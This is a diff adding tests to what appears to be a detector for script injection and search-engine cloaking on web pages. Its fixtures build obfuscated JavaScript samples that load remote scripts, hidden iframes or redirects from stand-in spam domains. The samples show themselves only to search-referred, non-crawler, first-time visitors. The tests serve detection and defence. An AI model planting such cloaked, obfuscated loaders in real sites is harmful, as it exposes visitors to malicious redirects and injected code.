@@ -372,3 +372,147 @@ def test_meta_refresh_within_seconds_from_a_page_with_content_is_weak_evidence(s
     # the same refresh on a moved page's stub: a feature
     findings, feats = run(page_from_text(_html("", meta), mode="html"))
     assert not findings and feats["SEO303.meta_refresh_foreign"] == 1.0 and feats["SEO303.meta_refresh_fast"] == 1.0
+
+
+# --- obfuscated literals resolved in place: char-code arrays, escapes, string tables, gates ----
+
+from detector.detectors.script_injection import (  # noqa: E402
+    GATE_CRAWLER, GATE_DELAY, GATE_ONCE, GATE_SEARCH, _gates, codes_to_text, resolve_code,
+)
+
+
+def _codes(s: str, fmt: str = "{}") -> str:
+    return ",".join(fmt.format(ord(c)) for c in s)
+
+
+def _hex(s: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in s)
+
+
+def _table(entries, esc=_hex) -> str:
+    return ",".join("'" + esc(e) + "'" for e in entries)
+
+
+def test_codes_to_text_wants_printable_words():
+    assert codes_to_text(_codes("https://a.example/x")) == "https://a.example/x"
+    assert codes_to_text(_codes("location", "0x{:x}")) == "location"
+    assert codes_to_text("1,2,3,4,5,6,7,8") is None  # control codes: a lookup table
+    assert codes_to_text("200,300,400,500,600,700,800,900") is None
+    assert codes_to_text(_codes("+-*/=<>!?")) is None  # punctuation, not words
+
+
+def test_resolve_code_decodes_literals_in_place():
+    res = resolve_code(f"var u=d([{_codes('https://a.example/')}]);x=String.fromCharCode({_codes('hello world')});")
+    assert res and "char-code array" in res.techniques
+    assert "'https://a.example/'" in res.code and "'hello world'" in res.code
+    # escapes decode, except into a quote or a backslash (the literal's end stays where it is)
+    res = resolve_code("var s='" + _hex("src") + "\\x27';")
+    assert res.code == "var s='src\\x27';"
+    # a string table read by index, and computed members written as properties
+    js = f"var _t=[{_table(['createElement', 'script', 'https://b.example/j.js'])}];var e=document[_t[0x0]](_t[1]);e.src=_t[2];"
+    res = resolve_code(js)
+    assert "string table" in res.techniques
+    assert "document.createElement('script')" in res.code and "e.src='https://b.example/j.js'" in res.code
+    # through an accessor that subtracts an offset, and after a rotation by a literal count
+    js = (f"var _a=[{_table(['x', 'location', 'href'])}];(function(a,n){{var f=function(k){{while(--k){{a['push'](a['shift']());}}}};f(++n);}}(_a,0x1));"
+          "var _g=function(i,k){i=i-0x2;var v=_a[i];return v;};window[_g('0x2')][_g('0x3')]='https://c.example/';")
+    assert "window.location.href='https://c.example/'" in resolve_code(js).code
+    assert resolve_code("var a = [1, 2, 3]; f(a);") is None  # nothing encoded
+
+
+def test_gates_recognise_how_injections_hide():
+    assert _gates("if(/google|bing/i.test(document.referrer)){go()}") == (GATE_SEARCH,)
+    # a host name or a crawler's name next to the referrer is no engine test
+    assert GATE_SEARCH not in _gates("var r=document.referrer;load('https://www.googletagmanager.com/gtm.js')")
+    assert GATE_SEARCH not in _gates("var r=document.referrer;var bots=['googlebot','bingbot'];")
+    assert _gates("if(!/bot|spider/i.test(navigator.userAgent)){go()}") == (GATE_CRAWLER,)
+    # once per visitor: a marker read *and* set; reading a consent cookie is not
+    assert _gates("if(document.cookie.indexOf('_v=')<0){document.cookie='_v=1';go()}") == (GATE_ONCE,)
+    assert _gates("if(document.cookie.indexOf('consent=1')>-1){load()}") == ()
+    assert _gates("if(!localStorage.getItem('k')){localStorage.setItem('k',1);setTimeout(go,900)}") == (GATE_ONCE, GATE_DELAY)
+
+
+def _page(script: str):
+    return page_from_text(_html(f"<script>{script}</script><p>Rye, spelt and seeded loaves every morning.</p>"), mode="html")
+
+
+def _best(page, fid):
+    findings, _ = run(page)
+    mine = [f for f in findings if f.id == fid]
+    return max(mine, key=weight) if mine else None
+
+
+CLOAKED = {
+    # char codes in hex, written out by document.write only for searchers, once
+    "hex_codes_docwrite": lambda url: (
+        f"var c=[{_codes('<script src=' + chr(34) + url + chr(34) + '></scr', '0x{:x}')}];"
+        "if(/google|yahoo|bing/i.test(document.referrer)&&document.cookie.indexOf('_dw')==-1){document.cookie='_dw=1';"
+        "document.write(String.fromCharCode.apply(null,c)+'ipt>')}"),
+    # a string table with an iframe, for humans only, once per session
+    "table_iframe": lambda url: (
+        f"var _x=[{_table(['createElement', 'iframe', 'src', url, 'appendChild', 'userAgent', 'sessionStorage'])}];"
+        "if(!/bot|crawler|spider/i.test(navigator[_x[5]])&&!window[_x[6]].getItem('f')){window[_x[6]].setItem('f',1);"
+        "var f=document[_x[0]](_x[1]);f[_x[2]]=_x[3];f.width=0;document.body[_x[4]](f)}"),
+    # \u-escaped table, a delayed top.location for visitors from a search engine
+    "unicode_table_top_location": lambda url: (
+        f"var _k=[{_table(['referrer', 'location', 'href', url], lambda s: ''.join(f'{chr(92)}u{ord(c):04x}' for c in s))}];"
+        "if(document[_k[0]].match(/google\\.|bing\\.|yandex\\./)){setTimeout(function(){top[_k[1]][_k[2]]=_k[3]},2000)}"),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(CLOAKED))
+def test_obfuscated_gated_actions_are_found_and_graded_by_agreement(shape):
+    f = _best(_page(CLOAKED[shape]("https://www.lorvexa-deals.com/in")), "SEO301")
+    assert f is not None and (f.severity, f.confidence) == ("high", "high"), f
+    assert f.evidence["domain"] == "lorvexa-deals.com"
+    # the same code aimed at the site itself, a sister site or a listed third party: nothing
+    for url in ("https://static.town-bakery.com/in", "https://town-bakery.de/in", "https://www.googletagmanager.com/gtm.js"):
+        findings, _ = run(_page(CLOAKED[shape](url)))
+        assert not [x for x in findings if weight(x) >= 0.15], (url, [x.message for x in findings])
+
+
+def test_obfuscated_loader_without_gates_is_no_finding_and_one_gate_is_medium():
+    entries = ["createElement", "script", "src", "https://widget.parlorchat-help.com/l.js", "appendChild"]
+    body = "var s=document[_w[0]](_w[1]);s[_w[2]]=_w[3];document.head[_w[4]](s);"
+    findings, feats = run(_page(f"var _w=[{_table(entries)}];{body}"))
+    assert not findings  # a vendor's minified widget loading from its own host
+    capped = f"var _w=[{_table(entries)}];if(document.cookie.indexOf('_pc=')<0){{document.cookie='_pc=1';{body}}}"
+    f = _best(_page(capped), "SEO301")
+    assert (f.severity, f.confidence) == ("medium", "medium")  # a frequency cap looks the same
+    delayed = f"var _w=[{_table(entries)}];setTimeout(function(){{{body}}},3000);"
+    f = _best(_page(delayed), "SEO301")
+    assert (f.severity, f.confidence) == ("medium", "low")
+
+
+def test_string_table_behind_an_unresolvable_accessor_is_judged_by_its_vocabulary():
+    def script(url):
+        entries = ["location", "replace", url, "referrer", "google", "cookie", "_q=1"]
+        return (f"var _v=[{_table(entries)}];(function(a,b){{while(!![]){{try{{var c=parseInt(a[0].length)*2;"
+                "if(c===b)break;else a.push(a.shift());}catch(e){a.push(a.shift());}}}(_v,0x1f2));"
+                "var _r=function(i){return _v[(i*7+3)%_v.length];};"
+                "if(document[_r(4)].indexOf(_r(1))>-1&&document[_r(2)].indexOf(_r(6))<0){document[_r(2)]=_r(6);"
+                "window[_r(0)][_r(5)](_r(3));}")
+
+    f = _best(_page(script("https://prize-vault.example-win.com/r")), "SEO301")
+    assert f is not None and (f.severity, f.confidence) == ("high", "medium")  # capped: lookups unresolved
+    assert "string table" in f.message and f.evidence["domain"] == "example-win.com"
+    # the same table with the site's own URL: nothing
+    assert not run(_page(script("https://www.town-bakery.com/r")))[0]
+
+
+def test_plain_loader_gated_on_search_referrer_is_weak_and_crawler_test_alone_is_none():
+    loader = "var s=document.createElement('script');s.src='https://cdn.fernwood-stats.com/a.js';document.head.appendChild(s);"
+    f = _best(_page(f"if(document.referrer.indexOf('google')>-1){{{loader}}}"), "SEO302")
+    assert (f.severity, f.confidence) == ("medium", "low")
+    f = _best(_page("if(document.referrer.indexOf('google')>-1&&!/bot/i.test(navigator.userAgent)"
+                    f"&&document.cookie.indexOf('_f')<0){{document.cookie='_f=1';{loader}}}"), "SEO302")
+    assert (f.severity, f.confidence) == ("high", "medium")
+    # consent managers and widgets skip crawlers: a crawler test alone is no gate worth a finding
+    findings, feats = run(_page(f"if(!/googlebot|bingbot/i.test(navigator.userAgent)){{{loader}}}var r=document.referrer;"))
+    assert not findings and feats["SEO302.writes_foreign_resource"] == 1.0
+
+
+def test_consent_manager_that_skips_crawlers_on_a_clean_corpus_page(shared_dir):
+    page = page_from_file(str(CORPUS / "pages/trafilatura/eval__tarnkappe.info-Black.html"), mode="html")
+    findings, _ = run(page)
+    assert not findings, [f.message for f in findings]
